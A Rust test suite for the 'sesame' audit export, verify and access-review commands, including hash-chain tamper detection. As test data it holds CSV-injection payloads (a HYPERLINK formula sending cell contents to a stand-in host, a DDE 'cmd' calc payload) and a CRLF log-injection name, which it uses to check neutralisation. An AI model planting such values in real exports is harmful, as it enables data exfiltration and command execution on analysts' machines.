//! `sesame audit export|verify` against a real SQLite file filled through the store.
// Tests may be long journeys: the 100-line rule is for production code.
#![allow(clippy::too_many_lines)]

use crate::common;
use crate::common::cli::{self, text};
use crate::common::config::TestConfig;
use crate::common::store_db::audit_of;

use std::path::{Path, PathBuf};
use std::process::Output;

use common::audit_events::{at_site, denied, flow, session_started};
use serde_json::json;
use sesame::audit::{Action, AuditContext, NewAuditEvent, Outcome};
use sesame::store::{AuditFilter, Store};

/// `sesame ARGS --config CONFIG`, run by the auditor.
fn sesame(args: &[&str], config: &Path) -> Output {
    cli::sesame(args).config(config).user(AUDITOR).output()
}

/// The login the CLI runs as in these tests (`cli:<login>` in audit.read).
const AUDITOR: &str = "auditrice";

fn event(i: usize) -> NewAuditEvent {
    let ctx = AuditContext::new(["alice", "system"][i % 2], Some("198.18.0.9".into()));
    NewAuditEvent::new(Action::AuthLogin, &ctx, format!("t{i}"))
        .details(serde_json::json!({"n": i, "note": "virgule, \"guillemets\""}))
}

async fn setup(n: usize) -> (tempfile::TempDir, PathBuf, Store) {
    let dir = tempfile::tempdir().expect("tempdir");
    let url = format!("sqlite://{}/sesame.db", dir.path().display());
    let config = dir.path().join("sesame.toml");
    TestConfig::new().database(&url).write(&config);
    let store = Store::connect(&url).await.expect("open");
    let events: Vec<NewAuditEvent> = (0..n).map(event).collect();
    store.append_audit_batch(&events).await.expect("append");
    (dir, config, store)
}

#[tokio::test]
async fn export_csv_and_jsonl_page_through_everything_and_filter() {
    let (_dir, config, store) = setup(1001).await;
    let out = sesame(&["audit", "export"], &config);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let mut reader = csv::Reader::from_reader(out.stdout.as_slice());
    assert_eq!(
        reader.headers().expect("header").iter().collect::<Vec<_>>(),
        [
            "id",
            "ts",
            "actor",
            "action",
            "target",
            "outcome",
            "source_ip",
            "details",
            "prev_hash",
            "hash"
        ]
    );
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("row")).collect();
    assert_eq!(rows.len(), 1001, "more than one page");
    let stored = store
        .list_audit(&AuditFilter::default())
        .await
        .expect("list");
    for (row, ev) in rows.iter().zip(&stored) {
        assert_eq!(row[0].parse::<i64>().expect("id"), ev.id);
        assert_eq!(sesame::time::parse("ts", &row[1], 0), Ok(ev.ts));
        assert_eq!(&row[2], ev.actor);
        assert_eq!(&row[6], "198.18.0.9");
        let details: serde_json::Value = serde_json::from_str(&row[7]).expect("details JSON");
        assert_eq!(details, ev.details);
        assert_eq!(&row[9], ev.hash);
    }

    let out = sesame(
        &["audit", "export", "--format", "jsonl", "--user", "t7"],
        &config,
    );
    assert!(out.status.success(), "{}", text(&out.stderr));
    let lines: Vec<serde_json::Value> = text(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).expect("one JSON object per line"))
        .collect();
    assert_eq!(lines.len(), 1);
    assert_eq!(lines[0]["id"], 8);
    assert_eq!(lines[0]["target"], "t7");
    assert_eq!(lines[0]["hash"], stored[7].hash.as_str());

    // Every event is from "now": a window ending a day ago is empty, one starting then is full.
    let out = sesame(&["audit", "export", "--until", "1d"], &config);
    assert!(out.status.success());
    assert_eq!(text(&out.stdout).lines().count(), 1, "header only");
    let out = sesame(
        &["audit", "export", "--since", "1d", "--format", "jsonl"],
        &config,
    );
    // The 1,001 events and the audit.read of the 3 exports before this one (not its own).
    assert_eq!(text(&out.stdout).lines().count(), 1001 + 3);
    let out = sesame(&["audit", "export", "--since", "last week"], &config);
    assert_eq!(out.status.code(), Some(1));
    assert!(
        text(&out.stderr).contains("--since"),
        "{}",
        text(&out.stderr)
    );
}

#[tokio::test]
async fn verify_exits_zero_when_intact_and_names_the_first_broken_event() {
    let (_dir, config, store) = setup(5).await;
    let out = sesame(&["audit", "verify"], &config);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert_eq!(text(&out.stdout), "intact: 5 events\n");

    sqlx::query("DROP TRIGGER audit_events_no_update")
        .execute(store.pool())
        .await
        .expect("drop trigger");
    sqlx::query("UPDATE audit_events SET outcome = 'denied' WHERE id = 4")
        .execute(store.pool())
        .await
        .expect("tamper");
    let out = sesame(&["audit", "verify"], &config);
    assert_eq!(out.status.code(), Some(1));
    assert_eq!(text(&out.stdout), "4\n", "stdout is the first broken id");
    assert!(
        text(&out.stderr).contains("event 4"),
        "{}",
        text(&out.stderr)
    );
}

const T0: i64 = 1_767_603_600_000; // 2026-01-05T09:00:00Z
const MIN: i64 = 60_000;
const FORMULA: &str = r#"=HYPERLINK("https://x/?"&A2;"x")"#;

fn jsonl_ids(out: &Output) -> Vec<i64> {
    assert!(out.status.success(), "{}", text(&out.stderr));
    text(&out.stdout)
        .lines()
        .map(|l| {
            let v: serde_json::Value = serde_json::from_str(l).expect("JSON line");
            v["id"].as_i64().expect("id")
        })
        .collect()
}

#[tokio::test]
async fn export_filters_neutralise_csv_and_record_the_read() {
    let (_dir, config, store) = setup(0).await;
    let failed = NewAuditEvent::new(
        Action::AuthLogin,
        &AuditContext::new(FORMULA, Some("198.18.0.66".into())),
        FORMULA,
    )
    .outcome(Outcome::Denied)
    .details(json!({"reason": "invalid_credentials"}));
    store
        .append_audit_bulk(&[
            (T0, failed),                                      // 1
            (T0 + MIN, session_started(7, "alice", T0 + MIN)), // 2
            (
                T0 + 2 * MIN,
                flow(Some(7), Some("alice"), "paie", T0, 1_000),
            ), // 3
            (T0 + 3 * MIN, flow(Some(8), Some("bob"), "paie", T0, 1_000)), // 4
            (T0 + 4 * MIN, denied(8, "bob", T0)),              // 5
            (
                T0 + 40 * 24 * 60 * MIN,
                flow(Some(7), Some("alice"), "rh", T0, 1),
            ), // 6
        ])
        .await
        .expect("events");
    let export = |args: &[&str]| {
        let mut all = vec!["audit", "export", "--format", "jsonl"];
        all.extend_from_slice(args);
        jsonl_ids(&sesame(&all, &config))
    };
    assert_eq!(export(&["--device", "7"]), [2, 3, 6]);
    assert_eq!(export(&["--resource", "paie"]), [3, 4]);
    assert_eq!(export(&["--user", "bob", "--outcome", "denied"]), [5]);
    assert_eq!(
        export(&["--action", "flow.allowed", "--until", "2026-02-01"]),
        [3, 4]
    );
    assert_eq!(export(&["--source-ip", "198.18.0.66"]), [1]);
    assert_eq!(
        export(&[
            "--user",
            "alice",
            "--since",
            "2026-01-05T09:01:00Z",
            "--until",
            "2026-01-05T09:03:00Z"
        ]),
        [2, 3]
    );
    // Bad filters: named, nothing written.
    for (args, word) in [
        (vec!["--device", "portable"], "device"),
        (vec!["--action", "flow.everything"], "flow.everything"),
        (vec!["--outcome", "ok"], "outcome"),
    ] {
        let mut all = vec!["audit", "export"];
        all.extend_from_slice(&args);
        let out = sesame(&all, &config);
        assert_eq!(out.status.code(), Some(1), "{args:?}");
        assert!(out.stdout.is_empty());
        assert!(text(&out.stderr).contains(word), "{}", text(&out.stderr));
    }

    // CSV: the formula typed as a username is inert; JSONL keeps it verbatim.
    let out = sesame(&["audit", "export", "--action", "auth.login"], &config);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let rows: Vec<csv::StringRecord> = csv::Reader::from_reader(out.stdout.as_slice())
        .records()
        .map(|r| r.expect("row"))
        .collect();
    assert_eq!(rows.len(), 1);
    assert_eq!(&rows[0][2], format!("'{FORMULA}"));
    assert_eq!(&rows[0][4], format!("'{FORMULA}"));
    let out = sesame(
        &[
            "audit",
            "export",
            "--action",
            "auth.login",
            "--format",
            "jsonl",
        ],
        &config,
    );
    let line: serde_json::Value = serde_json::from_slice(&out.stdout).expect("one line");
    assert_eq!(line["actor"], FORMULA);

    // Each export was audited, by cli:<login>, with its filter; an export never contains its
    // own audit.read.
    let reads = audit_of(&store, "audit.read").await;
    assert_eq!(
        reads.len(),
        6 + 2,
        "6 filtered exports and 2 of auth.login (bad filters: none)"
    );
    assert!(reads.iter().all(|e| e.actor == format!("cli:{AUDITOR}")));
    assert_eq!(reads[0].target, "audit:export");
    assert_eq!(
        reads[0].details,
        json!({"query": "export", "format": "jsonl", "filter": {"device": "7"}})
    );
    assert_eq!(
        reads[3].details["filter"]["until"],
        "2026-02-01T00:00:00.000Z"
    );
    let all = export(&[]);
    let last_read = reads.last().expect("read").id;
    assert_eq!(
        all.last(),
        Some(&last_read),
        "up to the previous read, not its own"
    );
}

fn review_config(dir: &Path, url: &str) -> PathBuf {
    let config = dir.join("review.toml");
    TestConfig::new()
        .database(url)
        .sections(
            r#"[roles]
vpn_users = ["cn=personnels-administratifs,ou=groups,dc=example,dc=org"]

[[resource]]
name = "paie"
description = "Paie"
allow = ["198.18.10.10/32 tcp:443"]

[[resource]]
name = "rh"
description = "RH"
allow = ["198.18.20.0/24 tcp:443"]

[[grant]]
group = "cn=gestionnaires-rh,ou=groups,dc=example,dc=org"
resources = ["rh"]

[[grant]]
group = "cn=gestionnaires-paie,ou=groups,dc=example,dc=org"
resources = ["paie"]"#,
        )
        .write(&config);
    config
}

#[tokio::test]
async fn flows_and_access_review_from_the_cli() {
    let (dir, _, store) = setup(0).await;
    let url = format!("sqlite://{}/sesame.db", dir.path().display());
    let config = review_config(dir.path(), &url);
    // Text an attacker controls (display name, device name) reaches the exports.
    let d = enrol_alice(&store, "Alice\r\nFAUX 2 root", "=cmd|' /C calc'!A0", 5).await;
    store
        .append_audit_bulk(&[
            (T0, session_started(d, "alice", T0)),
            (T0 + MIN, flow(Some(d), Some("alice"), "paie", T0, 1_000)),
            (
                T0 + 2 * MIN,
                flow(Some(d), Some("alice"), "paie", T0 + MIN, 3_000),
            ),
        ])
        .await
        .expect("events");

    let out = sesame(
        &[
            "audit",
            "flows",
            "--resource",
            "paie",
            "--since",
            "2026-01-01",
            "--until",
            "2026-02-01",
            "--format",
            "json",
        ],
        &config,
    );
    assert!(out.status.success(), "{}", text(&out.stderr));
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).expect("json");
    assert_eq!(v["flows"][0]["username"], "alice");
    assert_eq!(
        (
            v["flows"][0]["bytes"].as_u64(),
            v["flows"][0]["windows"].as_u64()
        ),
        (Some(4_000), Some(2))
    );
    assert_eq!(v["flows"][0]["first_seen"], "2026-01-05T09:00:01.000Z");
    let out = sesame(
        &[
            "audit",
            "flows",
            "--resource",
            "paie",
            "--since",
            "2026-02-01",
        ],
        &config,
    );
    assert_eq!(
        text(&out.stdout).lines().count(),
        1,
        "header only: {}",
        text(&out.stdout)
    );

    let out = sesame(
        &[
            "audit",
            "access-review",
            "--resource",
            "paie",
            "--format",
            "json",
        ],
        &config,
    );
    assert!(out.status.success(), "{}", text(&out.stderr));
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).expect("json");
    let e = &v["entries"][0];
    assert_eq!(
        (e["username"].as_str(), e["device_id"].as_i64()),
        (Some("alice"), Some(d))
    );
    assert_eq!(e["via"][0]["grants"], json!([2]));
    assert_eq!(e["last_flow"]["bytes"], 3_000);
    assert_eq!(e["last_session"]["action"], "tunnel.session_started");
    // CSV: the device name (user-chosen text) is neutralised.
    let out = sesame(&["audit", "access-review", "--resource", "paie"], &config);
    let rows: Vec<csv::StringRecord> = csv::Reader::from_reader(out.stdout.as_slice())
        .records()
        .map(|r| r.expect("row"))
        .collect();
    assert_eq!(&rows[0][1], "local", "the site, beside the resource");
    assert_eq!(&rows[0][5], "'=cmd|' /C calc'!A0");
    // Table: one line per entry, control characters escaped.
    let out = sesame(
        &[
            "audit",
            "access-review",
            "--user",
            "alice",
            "--format",
            "table",
        ],
        &config,
    );
    let table = text(&out.stdout);
    assert_eq!(table.lines().count(), 2, "{table}");
    assert!(table.contains("Alice\\r\\nFAUX 2 root"), "{table}");
    // Unknown resource, or neither --resource nor --user: refused.
    let out = sesame(&["audit", "access-review", "--resource", "compta"], &config);
    assert_eq!(out.status.code(), Some(1));
    assert!(text(&out.stderr).contains("compta"));
    let out = sesame(&["audit", "access-review"], &config);
    assert_eq!(out.status.code(), Some(2));
    let reads = audit_of(&store, "audit.read").await;
    assert!(reads.iter().any(|e| e.details
        == json!({"query": "access_review", "format": "table", "filter": {"user": "alice"}})));
    assert!(reads
        .iter()
        .any(|e| e.target == "audit:flows"
            && e.details["filter"]["since"] == "2026-01-01T00:00:00.000Z"));
}

/// Runs `sesame audit export` with stdout counted (not stored) and returns (lines, peak RSS in
/// KiB) of that process alone. GNU time forks it from its own small process and reports its
/// maxrss: a child spawned straight from this test would start on this process's memory (std
/// spawns with vfork semantics, and Linux counts the pre-exec image in the child's maxrss), so
/// its figure would be this test process's peak, which grows with every test sharing the binary.
/// Payroll behind `sesame serve`'s own gateway, an application at the DSDEN's.
fn sites_review_config(dir: &Path, url: &str) -> PathBuf {
    let config = dir.join("sites.toml");
    TestConfig::new()
        .database(url)
        .sections(
            r#"[roles]
vpn_users = ["cn=personnels-administratifs,ou=groups,dc=example,dc=org"]

[[site]]
name = "dsden56"
endpoint = "vpn-dsden56.example.org:51820"
public_key = "Ly6ppXE4y6xWZMHAAP9t2QgYV9jB8Ew3IU6m2lFnrGo="

[[resource]]
name = "paie"
allow = ["198.18.10.10/32 tcp:443"]

[[resource]]
name = "app56"
site = "dsden56"
allow = ["198.18.56.10/32 tcp:443"]

[[grant]]
group = "cn=gestionnaires-paie,ou=groups,dc=example,dc=org"
resources = ["paie", "app56"]"#,
        )
        .write(&config);
    config
}

/// More entries than the CLI reads at once (1,000): every one is written, each once, in order,
/// in each format (the JSON as one document, the CSV with one header).
#[tokio::test]
async fn the_access_review_cli_writes_every_page() {
    let (dir, _, store) = setup(0).await;
    let url = format!("sqlite://{}/sesame.db", dir.path().display());
    let config = review_config(dir.path(), &url);
    let users: Vec<sesame::directory::DirectoryUser> = (0..1_001)
        .map(|i| sesame::directory::DirectoryUser {
            groups: vec![
                "cn=personnels-administratifs,ou=groups,dc=example,dc=org".into(),
                "cn=gestionnaires-paie,ou=groups,dc=example,dc=org".into(),
            ],
            ..crate::common::store_db::person(&format!("agent{i:04}"))
        })
        .collect();
    let ids = crate::common::store_db::enrol_many(&store, &users, "100.64.0.0/21").await;
    let review = |format: &str| {
        sesame(
            &[
                "audit",
                "access-review",
                "--resource",
                "paie",
                "--format",
                format,
            ],
            &config,
        )
    };
    let out = review("json");
    assert!(out.status.success(), "{}", text(&out.stderr));
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).expect("one JSON document");
    let got: Vec<i64> = v["entries"]
        .as_array()
        .expect("entries")
        .iter()
        .map(|e| e["device_id"].as_i64().expect("device"))
        .collect();
    assert_eq!(got, ids);
    assert_eq!(
        (&v["total"], &v["next_cursor"]),
        (&json!(1_001), &json!(null))
    );
    let out = review("csv");
    let csv = text(&out.stdout);
    assert_eq!(csv.lines().count(), 1_002, "header + every entry");
    assert_eq!(csv.matches("resource,site,").count(), 1, "one header");
    let out = review("table");
    assert_eq!(text(&out.stdout).lines().count(), 1_002);
    assert!(
        text(&out.stderr).contains("1001 accès"),
        "{}",
        text(&out.stderr)
    );
}

/// Alice (shown as `display_name`) enrols a laptop named `device_name` with key `[key; 32]`:
/// its device id.
async fn enrol_alice(store: &Store, display_name: &str, device_name: &str, key: u8) -> i64 {
    let user = sesame::directory::DirectoryUser {
        username: "alice".into(),
        dn: "uid=alice,ou=people,dc=example,dc=org".into(),
        display_name: display_name.into(),
        groups: vec![
            "cn=personnels-administratifs,ou=groups,dc=example,dc=org".into(),
            "cn=gestionnaires-paie,ou=groups,dc=example,dc=org".into(),
        ],
        disabled: false,
    };
    let ctx = AuditContext::new("cli:test", None);
    let code = store
        .create_code(
            &sesame::store::NewCode {
                username: "alice".into(),
                device_name: device_name.into(),
                ttl: std::time::Duration::from_secs(3600),
            },
            &ctx,
        )
        .await
        .expect("code")
        .code;
    store
        .enrol(
            &sesame::store::EnrolRequest {
                code: &code,
                user: &user,
                public_key: sesame::key::PublicKey::from_bytes([key; 32]).expect("key"),
                hostname: &"pc-alice".parse().expect("hostname"),
                key_lifetime: None,
            },
            &sesame::store::AddressPool {
                network: "100.64.0.0/24".parse().expect("net"),
                reserved: vec!["100.64.0.1".parse().expect("ip")],
            },
            &ctx,
        )
        .await
        .expect("enrol")
        .device
        .id
}

#[tokio::test]
async fn site_filter_and_review_by_site_from_the_cli() {
    let (dir, _, store) = setup(0).await;
    let url = format!("sqlite://{}/sesame.db", dir.path().display());
    let config = sites_review_config(dir.path(), &url);
    let d = enrol_alice(&store, "Alice", "PC-APP56-01", 6).await;
    store
        .append_audit_bulk(&[
            (T0, session_started(d, "alice", T0)),
            (
                T0 + MIN,
                at_site(session_started(d, "alice", T0 + MIN), "dsden56"),
            ),
            (
                T0 + 2 * MIN,
                at_site(flow(Some(d), Some("alice"), "app56", T0, 500), "dsden56"),
            ),
            (T0 + 3 * MIN, flow(Some(d), Some("alice"), "paie", T0, 100)),
        ])
        .await
        .expect("events");
    // The ids of the events of `site` (none: without a site) as the log holds them now.
    let of = |site: Option<&'static str>| {
        let store = store.clone();
        async move {
            let all = store
                .list_audit(&AuditFilter::default())
                .await
                .expect("list");
            all.iter()
                .filter(|e| e.details.get("site").and_then(|v| v.as_str()) == site)
                .map(|e| e.id)
                .collect::<Vec<i64>>()
        }
    };
    let export = |args: &[&str]| {
        let mut all = vec!["audit", "export", "--format", "jsonl"];
        all.extend_from_slice(args);
        jsonl_ids(&sesame(&all, &config))
    };
    // `local`: the events without a site (the enrolment, the local gateway's session and flow).
    let local = of(None).await;
    assert!(local.len() >= 4, "{local:?}");
    assert_eq!(export(&["--site", "local"]), local);
    let dsden = of(Some("dsden56")).await;
    assert_eq!(dsden.len(), 2);
    assert_eq!(export(&["--site", "dsden56"]), dsden);
    assert_eq!(
        export(&["--site", "dsden56", "--action", "flow.allowed"]),
        [dsden[1]]
    );
    assert_eq!(
        export(&["--site", "local", "--action", "flow.allowed"]),
        [*local.last().expect("a local flow")]
    );
    assert_eq!(export(&["--site", "rectorat"]), Vec::<i64>::new());

    // The access review: each resource's site, and the resources of one site.
    let review = |args: &[&str]| {
        let mut all = vec!["audit", "access-review"];
        all.extend_from_slice(args);
        sesame(&all, &config)
    };
    let out = review(&["--user", "alice", "--format", "json"]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).expect("json");
    let got: Vec<(&str, &str)> = v["entries"]
        .as_array()
        .expect("entries")
        .iter()
        .map(|e| {
            (
                e["resource"].as_str().expect("resource"),
                e["site"].as_str().expect("site"),
            )
        })
        .collect();
    assert_eq!(got, [("app56", "dsden56"), ("paie", "local")]);
    let out = review(&["--site", "dsden56", "--format", "json"]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).expect("json");
    assert_eq!(v["site"], "dsden56");
    let entries = v["entries"].as_array().expect("entries");
    assert_eq!(entries.len(), 1, "{v}");
    assert_eq!(
        (
            entries[0]["resource"].as_str(),
            entries[0]["device_name"].as_str(),
            entries[0]["last_flow"]["bytes"].as_u64()
        ),
        (Some("app56"), Some("PC-APP56-01"), Some(500))
    );
    let out = review(&["--site", "local"]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let mut reader = csv::Reader::from_reader(out.stdout.as_slice());
    let header = reader.headers().expect("header").clone();
    assert_eq!((&header[0], &header[1]), ("resource", "site"));
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("row")).collect();
    assert_eq!(rows.len(), 1);
    assert_eq!((&rows[0][0], &rows[0][1]), ("paie", "local"));
    // An unknown site is named; a site with a user or a resource is refused by the parser.
    let out = review(&["--site", "nowhere"]);
    assert_eq!(out.status.code(), Some(1));
    assert!(
        text(&out.stderr).contains("nowhere"),
        "{}",
        text(&out.stderr)
    );
    let out = review(&["--site", "dsden56", "--user", "alice"]);
    assert_eq!(out.status.code(), Some(2));

    // Each read recorded its site.
    let reads = audit_of(&store, "audit.read").await;
    assert_eq!(
        reads[0].details,
        json!({"query": "export", "format": "jsonl", "filter": {"site": "local"}})
    );
    assert!(reads.iter().any(|e| e.details
        == json!({"query": "access_review", "format": "json", "filter": {"site": "dsden56"}})));
}

fn export_peak_rss(config: &Path) -> (u64, i64) {
    use std::io::Read as _;
    let report = tempfile::NamedTempFile::new().expect("report file");
    let mut time = std::process::Command::new("/usr/bin/time");
    time.args(["-f", "%M", "-o"])
        .arg(report.path())
        .arg("--")
        .arg(cli::BIN)
        .args(["audit", "export", "--config"])
        .arg(config)
        .env("RUST_LOG", "off")
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null());
    let mut child = time
        .spawn()
        .expect("run /usr/bin/time (Debian package `time`)");
    let mut stdout = child.stdout.take().expect("stdout");
    let (mut lines, mut buf) = (0u64, vec![0u8; 1 << 16]);
    loop {
        match stdout.read(&mut buf) {
            Ok(0) | Err(_) => break,
            Ok(n) => lines += buf[..n].iter().filter(|b| **b == b'\n').count() as u64,
        }
    }
    let status = child.wait().expect("wait");
    assert!(status.success(), "export failed: {status}");
    let report = std::fs::read_to_string(report.path()).expect("time's report");
    let kib = report
        .trim()
        .parse()
        .unwrap_or_else(|e| panic!("time's report {report:?}: {e}"));
    (lines, kib)
}

/// Appends events `from..from + n` in one SQL statement (SQLite recursive CTE). The export does
/// not check hashes, so these rows carry short unique placeholders instead of a real chain: a
/// real one costs minutes in a debug build and hundreds of MB of disk, and is not what is
/// measured here.
async fn fill(store: &Store, from: i64, n: i64) {
    sqlx::query(
        "WITH RECURSIVE c(i) AS (SELECT $1 UNION ALL SELECT i + 1 FROM c WHERE i + 1 < $2) \
         INSERT INTO audit_events (id, ts, actor, action, target, outcome, source_ip, details, \
         prev_hash, hash, username) \
         SELECT i + 1, $3 + i, 'u' || (i % 1000), 'auth.login', 'u' || (i % 1000), 'success', \
         '198.18.0.9', '{\"n\":' || i || '}', '', 'h' || i, 'u' || (i % 1000) FROM c",
    )
    .bind(from)
    .bind(from + n)
    .bind(T0)
    .execute(store.pool())
    .await
    .expect("fill");
}

/// The export streams: its peak memory is the same for 100,000 and 1,000,000 events.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn export_of_a_million_events_keeps_memory_flat() {
    let (_dir, config, store) = setup(0).await;
    fill(&store, 0, 100_000).await;
    let (lines, small) = export_peak_rss(&config);
    assert_eq!(lines, 100_000 + 1, "header and every event");
    fill(&store, 100_001, 900_000).await; // after the first export's audit.read (id 100,001)
    let started = std::time::Instant::now();
    let (lines, large) = export_peak_rss(&config);
    // + the audit.read of the first export.
    assert_eq!(lines, 1_000_000 + 1 + 1);
    eprintln!(
        "audit export peak RSS: {small} KiB for 100,000 events, {large} KiB for 1,000,000 ({:.1} s)",
        started.elapsed().as_secs_f64()
    );
    assert!(
        large < 100 * 1024,
        "peak RSS {large} KiB for 1,000,000 events"
    );
    assert!(
        large < small + 16 * 1024,
        "grows with the log: {small} KiB → {large} KiB"
    );
}
